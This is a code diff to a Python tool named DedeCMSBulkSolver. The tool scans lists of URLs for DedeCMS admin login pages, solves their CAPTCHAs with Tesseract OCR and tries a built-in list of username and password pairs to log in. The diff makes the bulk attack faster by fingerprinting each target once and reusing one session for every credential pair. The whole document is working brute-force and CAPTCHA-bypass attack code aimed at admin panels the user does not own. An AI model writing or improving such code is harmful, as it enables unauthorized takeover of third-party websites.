@@ -31,6 +31,8 @@ logging.basicConfig(
 )
 
 class DedeCMSBulkSolver:
+    CAPTCHA_PATHS = ['/include/vdimgck.php', '/include/captcha.php', '/include/validatecode.php']
+
     def __init__(self):
         logging.info("Initializing DedeCMS Scanner...")
         self.credentials = [
@@ -55,55 +57,67 @@ class DedeCMSBulkSolver:
             url = url.rstrip('/') + '/dede/login.php'
         return url
 
-    def get_captcha(self, session, base_url):
-        """Fetch CAPTCHA image with dynamic timestamp"""
+    def fetch_captcha(self, session, url):
+        """Download one CAPTCHA URL, returning the image or None if it isn't a usable image"""
+        try:
+            response = session.get(url, verify=False, timeout=10)
+            if response.status_code == 200:
+                content_type = response.headers.get('content-type', '').lower()
+                if 'image' in content_type or 'octet-stream' in content_type:
+                    img = Image.open(BytesIO(response.content))
+                    if img.format in ['PNG', 'JPEG', 'GIF']:
+                        return img
+        except Exception as e:
+            logging.debug(f"Failed to get captcha URL {url}: {str(e)}")
+        return None
+
+    def get_captcha(self, session, base_url, captcha_path=None):
+        """Fetch CAPTCHA image with dynamic timestamp, returns (image, path that served it)
+
+        With a captcha_path from the target's fingerprint only that endpoint is fetched,
+        otherwise the known endpoints are tried in order.
+        """
         try:
             base_url = base_url.replace('/dede/login.php', '')
             timestamp = int(time.time() * 1000)  # Current timestamp in milliseconds
 
-            # Primary CAPTCHA URLs with timestamp
-            captcha_url = f"{base_url}/include/vdimgck.php?tag={timestamp}"
-            backup_urls = [
-                f"{base_url}/include/captcha.php?tag={timestamp}",
-                f"{base_url}/include/validatecode.php?tag={timestamp}"
-            ]
-
-            # Try main CAPTCHA URL first
-            logging.info(f"Trying main captcha URL: {captcha_url}")
-            try:
-                response = session.get(captcha_url, verify=False, timeout=10)
-                if response.status_code == 200:
-                    content_type = response.headers.get('content-type', '').lower()
-                    if 'image' in content_type or 'octet-stream' in content_type:
-                        img = Image.open(BytesIO(response.content))
-                        if img.format in ['PNG', 'JPEG', 'GIF']:
-                            logging.info(f"Successfully found captcha at: {captcha_url}")
-                            return img
-            except Exception as e:
-                logging.debug(f"Failed to get main captcha URL: {str(e)}")
-
-            # Try backup URLs if main fails
-            for url in backup_urls:
-                logging.info(f"Trying backup captcha URL: {url}")
-                try:
-                    response = session.get(url, verify=False, timeout=10)
-                    if response.status_code == 200:
-                        content_type = response.headers.get('content-type', '').lower()
-                        if 'image' in content_type or 'octet-stream' in content_type:
-                            img = Image.open(BytesIO(response.content))
-                            if img.format in ['PNG', 'JPEG', 'GIF']:
-                                logging.info(f"Successfully found captcha at: {url}")
-                                return img
-                except Exception as e:
-                    logging.debug(f"Failed to process backup URL {url}: {str(e)}")
-                    continue
+            for path in [captcha_path] if captcha_path else self.CAPTCHA_PATHS:
+                url = f"{base_url}{path}?tag={timestamp}"
+                logging.info(f"Trying captcha URL: {url}")
+                img = self.fetch_captcha(session, url)
+                if img:
+                    logging.info(f"Successfully found captcha at: {url}")
+                    return img, path
 
             logging.error(f"No valid captcha found for {base_url}")
-            return None
+            return None, None
 
         except Exception as e:
             logging.error(f"Unexpected error fetching captcha from {base_url}: {str(e)}")
-            return None
+            return None, None
+
+    def fingerprint(self, session, url):
+        """Check whether the target is DedeCMS and which captcha endpoint works
+
+        Returns {'is_dede': bool, 'captcha_path': str or None}. process_url runs it once per
+        target and hands it to every credential pair, so non-DedeCMS targets cost a single request.
+        """
+        base_url = self.normalize_url(url)
+        result = {'is_dede': False, 'captcha_path': None}
+        try:
+            initial_response = session.get(base_url, verify=False, timeout=10)
+            logging.info(f"Checking URL: {base_url}")
+
+            # Check if it's a DedeCMS page
+            dede_indicators = ["dedecms", "dede", "织梦", "管理中心"]
+            if any(indicator in initial_response.text.lower() for indicator in dede_indicators):
+                result['is_dede'] = True
+                _, result['captcha_path'] = self.get_captcha(session, base_url)
+            else:
+                logging.error(f"{base_url} is not a DedeCMS login page")
+        except Exception as e:
+            logging.error(f"Error fingerprinting {base_url}: {str(e)}")
+        return result
 
     def solve_captcha(self, image):
         """Solve the CAPTCHA using Tesseract"""
@@ -126,25 +140,19 @@ class DedeCMSBulkSolver:
             logging.error(f"Error solving captcha: {str(e)}")
             return None
 
-    def try_login(self, url, username, password, max_captcha_attempts=3):
-        """Attempt login with specific credentials"""
-        session = requests.Session()
+    def try_login(self, url, username, password, max_captcha_attempts=3, session=None, target=None):
+        """Attempt login with specific credentials, reusing the target's session and fingerprint"""
+        session = session or requests.Session()
         base_url = self.normalize_url(url)
 
         try:
-            # Initial check
-            initial_response = session.get(base_url, verify=False, timeout=10)
-            logging.info(f"Checking URL: {base_url}")
-
-            # Check if it's a DedeCMS page
-            dede_indicators = ["dedecms", "dede", "织梦", "管理中心"]
-            if not any(indicator in initial_response.text.lower() for indicator in dede_indicators):
-                logging.error(f"{base_url} is not a DedeCMS login page")
+            target = target or self.fingerprint(session, url)
+            if not target['is_dede'] or not target['captcha_path']:
                 return False
 
             for attempt in range(max_captcha_attempts):
                 try:
-                    captcha_image = self.get_captcha(session, base_url)
+                    captcha_image, _ = self.get_captcha(session, base_url, target['captcha_path'])
                     if not captcha_image:
                         logging.error(f"Attempt {attempt + 1}: Failed to get valid captcha")
                         continue
@@ -203,13 +211,24 @@ class DedeCMSBulkSolver:
         """Process a single URL with all credential combinations"""
         logging.info(f"Testing URL: {url}")
 
-        for cred in self.credentials:
-            try:
-                if self.try_login(url, cred['username'], cred['password']):
-                    break
-            except Exception as e:
-                logging.error(f"Error processing {url} with {cred['username']}: {str(e)}")
-                continue
+        # One session and one fingerprint for all credential pairs of this target
+        session = requests.Session()
+        try:
+            target = self.fingerprint(session, url)
+            if not target['is_dede']:
+                logging.info(f"Skipping {url}: not DedeCMS")
+            elif not target['captcha_path']:
+                logging.info(f"Skipping {url}: no working captcha endpoint")
+            else:
+                for cred in self.credentials:
+                    try:
+                        if self.try_login(url, cred['username'], cred['password'], session=session, target=target):
+                            break
+                    except Exception as e:
+                        logging.error(f"Error processing {url} with {cred['username']}: {str(e)}")
+                        continue
+        finally:
+            session.close()
 
         self.processed_urls += 1
         self.show_progress()